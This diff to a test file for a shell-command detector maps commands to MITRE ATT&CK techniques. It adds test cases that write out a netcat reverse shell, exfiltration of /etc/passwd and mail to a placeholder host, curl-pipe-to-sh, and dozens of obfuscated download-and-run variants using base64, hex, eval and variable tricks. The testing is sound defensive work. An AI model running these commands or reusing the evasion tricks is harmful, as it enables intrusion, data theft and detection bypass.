@@ -3,6 +3,7 @@ import { describe, expect, test } from 'vitest'
 import { boundedCommand } from '../../domain/command-text.js'
 import { anEvent } from '../../testing/events.js'
 import { readBehaviours, shownBy } from './behaviours.js'
+import { shellStatements, startReading } from './commands/shell-statements.js'
 import { SIGNALS } from './signals.js'
 
 const inCommand = (command: string) => shownBy(anEvent({ event_type: 'command', command }))
@@ -66,6 +67,10 @@ const LOOK_ALIKES: ReadonlyArray<
   ['defense_evasion', 'T1562.004', 'ufw disable', 'ufw status'],
   ['defense_evasion', 'T1562.001', 'setenforce 0', 'getenforce'],
   ['defense_evasion', 'T1562.001', 'systemctl stop firewalld', 'systemctl is-active firewalld'],
+  ['defense_evasion', 'T1562.001', '/etc/init.d/iptables stop', '/etc/init.d/iptables status'],
+  ['service_stop', 'T1489', '/etc/init.d/nginx stop', '/etc/init.d/nginx status'],
+  ['lateral_movement', 'T1021.004', 'ssh 192.0.2.1 stop', '/etc/init.d/ssh stop'],
+  ['download_command', 'T1105', 'curl -i http://192.0.2.1/a', 'curl -I http://192.0.2.1/a'],
   ['service_stop', 'T1489', 'pkill -9 xmrig', 'pgrep xmrig'],
   ['service_stop', 'T1489', 'kill -9 1234', 'kill -l'],
   // Credentials
@@ -119,6 +124,80 @@ const LOOK_ALIKES: ReadonlyArray<
   ['lateral_movement', 'T1046', 'masscan 192.0.2.0/24 -p22', 'ls /usr/bin/masscan'],
   ['discovery', 'T1082', 'uname -a', 'echo uname'],
   ['discovery', 'T1057', 'ps aux', 'echo ps'],
+  ['execution', 'T1059.004', 'nc -e /bin/sh 192.0.2.1 99', 'nc -w 3 192.0.2.1 99'],
+  // Data that leaves
+  ['exfiltration', 'T1048.002', 'scp -r /var/mail x@192.0.2.1:/m', 'scp -r x@192.0.2.1:/m /var/mail'],
+  ['exfiltration', 'T1048.002', 'rsync -a /etc/ x@192.0.2.1:/e', 'rsync -a /etc/ /tmp/e'],
+  ['exfiltration', 'T1048.003', 'dd if=/dev/sda1 | nc 192.0.2.1 99', 'echo stats | nc 192.0.2.1 11211'],
+  ['exfiltration', 'T1048.003', 'nc 192.0.2.1 99 < /etc/passwd', 'nc 192.0.2.1 99'],
+  ['exfiltration', 'T1048.003', 'curl -T /etc/passwd http://192.0.2.1/', 'curl -t x http://192.0.2.1/'],
+  ['exfiltration', 'T1048.003', 'curl -F f=@/etc/passwd http://192.0.2.1/', 'curl -F f=x http://192.0.2.1/'],
+  ['exfiltration', 'T1048.003', 'curl -d @/etc/passwd http://192.0.2.1/', 'curl http://x@192.0.2.1/'],
+  ['exfiltration', 'T1048.003', 'wget --post-file=/etc/passwd http://192.0.2.1/', 'wget http://192.0.2.1/'],
+  // Text that is run, and text that is only written
+  [
+    'download_command',
+    'T1105',
+    'eval $(echo "wget http://192.0.2.1/a")',
+    'echo $(echo "wget http://192.0.2.1/a")',
+  ],
+  [
+    'download_command',
+    'T1105',
+    'eval "$(printf %s "wget http://192.0.2.1/a")"',
+    'printf %s "wget http://192.0.2.1/a"',
+  ],
+  [
+    'download_command',
+    'T1105',
+    'sh -c "$(echo wget http://192.0.2.1/a)"',
+    'grep -c "$(echo wget http://192.0.2.1/a)" x',
+  ],
+  ['download_command', 'T1105', 'sh <<< "wget http://192.0.2.1/a"', 'cat <<< "wget http://192.0.2.1/a"'],
+  ['download_command', 'T1105', 'c="wget http://192.0.2.1/a"; $c', 'c="wget http://192.0.2.1/a"; echo $c'],
+  [
+    'download_command',
+    'T1105',
+    'c="wget http://192.0.2.1/a"; eval "$c"',
+    'c="wget http://192.0.2.1/a"; "$c"',
+  ],
+  ['download_command', 'T1105', 'w=wget; $w http://192.0.2.1/a', "w=wget; '$w' http://192.0.2.1/a"],
+  [
+    'download_command',
+    'T1105',
+    'w=wget; v=$w; $v http://192.0.2.1/a',
+    'w=wget; unset w; x=$w; $x http://192.0.2.1/a',
+  ],
+  [
+    'download_command',
+    'T1105',
+    'echo "wget http://192.0.2.1/a" > x; sh x',
+    'echo "wget http://192.0.2.1/a" > x; cat x',
+  ],
+  [
+    'download_command',
+    'T1105',
+    'cat << E | sh\nwget http://192.0.2.1/a\nE',
+    'cat << E | wc\nwget http://192.0.2.1/a\nE',
+  ],
+  ['execution', 'T1059.004', 'echo "./bot" > x; sh x', 'echo "echo 0" > x; sh x'],
+  ['execution', 'T1222.002', 'wget http://192.0.2.1/x; chmod +x x', 'echo "echo 0" > x; chmod +x x'],
+  [
+    'execution',
+    'T1222.002',
+    'echo "echo 0" >> x; chmod +x x',
+    'echo "echo 0" > x; echo "exit" >> x; chmod +x x',
+  ],
+  [
+    'execution',
+    'T1222.002',
+    'f="/tmp/.x"; echo "echo 0" > $f; wget -O $f http://192.0.2.1/x; chmod +x $f',
+    'f="/tmp/.x"; echo "echo 0" > "$f" 2>/dev/null && chmod +x "$f" && [ "$("$f")" = 0 ] && rm -f "$f"',
+  ],
+  ['execution', 'T1059.004', 'echo "echo 0" > x; cp /tmp/bot x; ./x', 'echo "echo 0" > x; ls -l x; ./x'],
+  ['execution', 'T1059.004', 'echo "echo 0" > x; cd /tmp; ./x', 'cd /tmp; echo "echo 0" > x; ./x'],
+  ['execution', 'T1059.004', 'echo "echo 0 > /tmp/y" > x; ./x', 'echo "echo 0 > /dev/null" > x; ./x'],
+  ['execution', 'T1059.004', 'curl http://192.0.2.1/a | sh', 'echo "uname -a" | sh'],
 ]
 
 describe('behaviours of statements', () => {
@@ -157,6 +236,47 @@ describe('behaviours of statements', () => {
     ['find / -name x -exec rm -f /var/log/wtmp \\;', 'T1070.002'],
     ['ls | xargs -n 1 rm -rf /var/log/x', 'T1070.002'],
     ["su root -c 'history -c'", 'T1070.003'],
+    ["eval `echo 'wget http://192.0.2.1/a'`", 'T1105'],
+    ['eval "$(echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | base64 -d)"', 'T1105'],
+    ['base64 -d <<< d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | sh', 'T1105'],
+    ['echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= > b; base64 -d b | bash', 'T1105'],
+    ['echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= > b; base64 -d b > s; sh s', 'T1105'],
+    ['echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | openssl base64 -d | sh', 'T1105'],
+    ['echo 7767657420687474703a2f2f3139322e302e322e312f61 | xxd -r -p | sh', 'T1105'],
+    ['echo "a/1.2.0.291//:ptth tegw" | rev | sh', 'T1105'],
+    ['printf "\\x77\\x67et %s" http://192.0.2.1/a | sh', 'T1105'],
+    ['echo -e "\\167get http://192.0.2.1/a" | sh', 'T1105'],
+    ["$'\\x77get' http://192.0.2.1/a", 'T1105'],
+    ['echo wget http://192.0.2.1/a | tee x | sh', 'T1105'],
+    ['bash <(echo wget http://192.0.2.1/a)', 'T1105'],
+    ['sh < <(echo wget http://192.0.2.1/a)', 'T1105'],
+    ['source /dev/stdin <<< "wget http://192.0.2.1/a"', 'T1105'],
+    ['echo "wget http://192.0.2.1/a" > /tmp/x; . /tmp/x', 'T1105'],
+    ['echo -n "wget " > x; echo "http://192.0.2.1/a" >> x; bash ./x', 'T1105'],
+    ['cat > x << E\nwget http://192.0.2.1/a\nE\nsh x', 'T1105'],
+    ['cat << E > x; chmod +x x; ./x\nwget http://192.0.2.1/a\nE', 'T1222.002'],
+    ['cp x y; echo "wget http://192.0.2.1/a" > x; mv x y; sh y', 'T1105'],
+    ['a=wg; b=et; $a$b http://192.0.2.1/a', 'T1105'],
+    ['a=wg; a+=et; "$a" http://192.0.2.1/a', 'T1105'],
+    ['export W=wget; sh -c "$W http://192.0.2.1/a"', 'T1105'],
+    [`\${w:-wget} http://192.0.2.1/a`, 'T1105'],
+    ['w$@get http://192.0.2.1/a', 'T1105'],
+    [`w\${nothing}get http://192.0.2.1/a`, 'T1105'],
+    [`wget\${IFS}http://192.0.2.1/a`, 'T1105'],
+    ['{wget,http://192.0.2.1/a}', 'T1105'],
+    ['$(echo wget) http://192.0.2.1/a', 'T1105'],
+    ['`which wget` http://192.0.2.1/a', 'T1105'],
+    ['read c <<< "wget http://192.0.2.1/a"; $c', 'T1105'],
+    ['for c in wget; do $c http://192.0.2.1/a; done', 'T1105'],
+    ['echo http://192.0.2.1/a | xargs wget', 'T1105'],
+    ['echo http://192.0.2.1/a | xargs -I {} sh -c "wget {}"', 'T1105'],
+    ["trap 'wget http://192.0.2.1/a' EXIT", 'T1105'],
+    ['eval "$(echo \'eval "$(echo wget http://192.0.2.1/a)"\')"', 'T1105'],
+    ['echo "$(echo ")"; wget http://192.0.2.1/a)"', 'T1105'],
+    ['timeout 10 wget http://192.0.2.1/a', 'T1105'],
+    ['x=wget; (x=true); y=$(x=true) $x http://192.0.2.1/a', 'T1105'],
+    ['x=wget; [ -f y ] && x=true; $x http://192.0.2.1/a', 'T1105'],
+    ['for c in true wget; do $c http://192.0.2.1/a; done', 'T1105'],
   ])('%s shows %s, however it is wrapped', (command, technique) => {
     expect(inCommand(command).techniques).toContain(technique)
   })
@@ -192,6 +312,23 @@ describe('long commands', () => {
     expect(unread).toBe((5_000 - 4_097) * 2 + attack.length)
   })
 
+  test('so is what variables and interpreters make of more than 262,144 characters', () => {
+    const doubling = `a=${'wget http://192.0.2.1/x;'.repeat(64)};${'a="$a$a";'.repeat(40)} eval "$a"`
+    const { behaviours, unread } = inCommand(doubling)
+    expect(behaviours).toContain('padding')
+    expect(unread).toBeGreaterThan(0)
+    const again = `a="#${'b'.repeat(8_000)}";${'eval "$a";'.repeat(1_000)}`
+    const reader = startReading()
+    expect([...shellStatements(again, reader)].length).toBeGreaterThan(1_000)
+    expect(reader.nested).toBeLessThanOrEqual(262_144)
+    expect(reader.unread).toBeGreaterThan(0)
+  })
+
+  test('so are variables of which there are more than 256', () => {
+    const assigned = Array.from({ length: 257 }, (_, n) => `a${n}=x`).join(';')
+    expect(inCommand(`${assigned};b=wget; $b http://192.0.2.1/x`).behaviours).toEqual(['padding'])
+  })
+
   test('a command that only says that it was cut was not', () => {
     expect(inCommand('echo … [999 characters more]').unread).toBe(0)
   })
@@ -219,5 +356,5 @@ describe('long commands', () => {
         for (const event of events) expect(inTurns.get(event)).toEqual(shownBy(event))
       }),
     )
-  })
+  }, 60_000)
 })
